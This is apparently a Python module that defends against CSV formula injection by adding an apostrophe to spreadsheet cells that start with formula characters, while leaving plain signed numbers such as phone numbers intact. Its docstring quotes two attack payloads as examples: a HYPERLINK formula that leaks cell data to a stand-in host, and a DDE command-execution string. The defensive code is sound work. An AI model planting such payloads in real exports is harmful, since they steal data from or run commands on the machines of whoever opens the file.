"""CSV for spreadsheets: every cell that a spreadsheet would run as a formula is made text.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, after their whitespace trimming, a tab or carriage return) as a formula: a caller-ID name
``=HYPERLINK("http://evil.example/?"&A2, "open")`` or ``=cmd|' /C calc'!A0`` would run on the
machine of whoever opens the export. Such a cell gets a leading apostrophe ``'`` (as OWASP
recommends: the cell is then text; a program reading the file sees the apostrophe as part of it).

Plain numbers are left as they are: a sign followed by digits (``+74951234567``, ``-12.5``) is a
number in every spreadsheet and cannot call anything, so E.164 phone numbers stay usable (and
re-importable). A number written any other way (``+7 495 123-45-67``) is text and gets the
apostrophe like any other text.

Every CSV the project writes goes through :func:`writer` (a test checks that no module uses the
bare :func:`csv.writer`).
"""
from __future__ import annotations

import csv
import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def cell(value):
    """``value`` ready for a CSV cell: None -> ``""``; formula-like text -> ``'`` + text."""
    if value is None:
        return ""
    if isinstance(value, str) and value[:1] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """A :func:`csv.writer` whose rows pass through :func:`cell`."""

    def __init__(self, f, *args, **kwargs):
        self._w = csv.writer(f, *args, **kwargs)

    def writerow(self, row):
        return self._w.writerow([cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(f, *args, **kwargs) -> SafeWriter:
    """Like :func:`csv.writer` (same arguments), with every cell neutralised by :func:`cell`."""
    return SafeWriter(f, *args, **kwargs)
